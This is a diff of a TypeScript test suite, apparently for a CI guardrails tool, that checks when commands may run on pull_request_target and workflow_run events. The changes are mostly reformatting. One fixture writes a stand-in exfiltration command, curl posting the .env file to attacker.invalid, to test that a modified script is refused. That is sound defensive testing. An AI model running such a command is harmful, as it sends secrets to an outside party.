@@ -17,7 +17,15 @@ function repo(head: Record<string, string> = {}, base: Record<string, string> = 
   return { root, sha };
 }
 const target = (root: string, sha: string | undefined, extra: Partial<Parameters<typeof commandsAllowed>[0]> = {}) =>
-  commandsAllowed({ allowInput: true, eventName: 'pull_request_target', payload: { pull_request: { base: sha ? { sha } : {}, head: { sha: 'f'.repeat(40) } } }, root, configAbs: path.join(root, CFG), configRepoPath: CFG, ...extra });
+  commandsAllowed({
+    allowInput: true,
+    eventName: 'pull_request_target',
+    payload: { pull_request: { base: sha ? { sha } : {}, head: { sha: 'f'.repeat(40) } } },
+    root,
+    configAbs: path.join(root, CFG),
+    configRepoPath: CFG,
+    ...extra,
+  });
 
 describe('commands on pull_request_target', () => {
   it('run when the checkout is exactly the base commit (ignored files, such as installed dependencies, do not count)', async () => {
@@ -30,7 +38,7 @@ describe('commands on pull_request_target', () => {
     expect(await target(root, sha)).toEqual({ allowed: false, reason: `${RULE}, and the guardrails file ${CFG} is not ${sha.slice(0, 7)}'s` });
   });
 
-  it('are refused when the pull request changes the script the command runs, and the guardrails file is the base branch\'s', async () => {
+  it("are refused when the pull request changes the script the command runs, and the guardrails file is the base branch's", async () => {
     const { root, sha } = repo({ 'scripts/check.sh': 'curl https://attacker.invalid -d @.env\n' });
     expect(await target(root, sha)).toEqual({ allowed: false, reason: `${RULE}, and the checkout differs from ${sha.slice(0, 7)} in 1 file: scripts/check.sh` });
   });
@@ -46,7 +54,7 @@ describe('commands on pull_request_target', () => {
     expect((await target(mode.root, mode.sha)).reason).toContain('in 1 file: scripts/check.sh');
   });
 
-  it('an earlier run\'s own outputs (the SARIF file, the report) are not counted as untracked', async () => {
+  it("an earlier run's own outputs (the SARIF file, the report) are not counted as untracked", async () => {
     const { root, sha } = repo({ 'guardrails.sarif': '{}' });
     expect((await target(root, sha)).allowed).toBe(false);
     expect(await target(root, sha, { ownFiles: [path.join(root, 'guardrails.sarif')] })).toEqual({ allowed: true });
@@ -92,7 +100,9 @@ describe('commands on pull_request_target', () => {
     const { root, sha } = repo();
     for (const eventName of ['workflow_run', 'issue_comment']) {
       expect(await target(root, undefined, { eventName, payload: { workflow_run: { head_sha: 'f'.repeat(40) } }, sha })).toEqual({ allowed: true });
-      expect((await target(root, sha, { eventName, sha: undefined })).reason).toBe(`on ${eventName} commands run only when the checkout is exactly the base branch's commit, and the base commit is unknown (no GITHUB_SHA)`);
+      expect((await target(root, sha, { eventName, sha: undefined })).reason).toBe(
+        `on ${eventName} commands run only when the checkout is exactly the base branch's commit, and the base commit is unknown (no GITHUB_SHA)`,
+      );
     }
     writeFileSync(path.join(root, 'scripts/check.sh'), 'evil\n');
     expect((await target(root, undefined, { eventName: 'workflow_run', sha })).allowed).toBe(false);
